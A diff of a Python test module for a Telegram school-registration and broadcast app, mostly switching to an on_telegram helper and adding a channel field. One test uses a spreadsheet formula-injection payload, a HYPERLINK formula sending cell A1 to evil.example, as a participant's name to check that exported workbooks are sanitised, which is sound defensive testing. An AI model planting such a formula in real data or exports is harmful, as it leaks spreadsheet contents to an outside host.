@@ -25,7 +25,7 @@ from storage.models import (
     Participant,
     Role,
 )
-from tests.support.people import load_schools, municipality_id, person
+from tests.support.people import load_schools, municipality_id, on_telegram, person
 from tests.support.recording import recording_bot
 from tests.support.sheets import xlsx_texts
 
@@ -245,7 +245,7 @@ async def registration_schools(session: AsyncSession, person: Participant) -> li
 
 def test_the_recipients_workbook_carries_no_formula(translator: Translator) -> None:
     leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
-    person = Participant(telegram_id=1, full_name=leak, role=Role.DIRECTOR, locale="ru")
+    person = on_telegram(1, full_name=leak, role=Role.DIRECTOR, locale="ru")
     lines = [
         broadcasts.RecipientLine(
             person,
@@ -363,6 +363,7 @@ async def test_stopping_and_counting_one_announcement_leave_the_others_alone(
             kind=broadcasts.KIND,
             reference=f"broadcast:{first.id}0",
             participant_id=row.participant_id,
+            channel=row.channel,
             chat_id=row.chat_id,
             payload=row.payload,
             due_at=later,
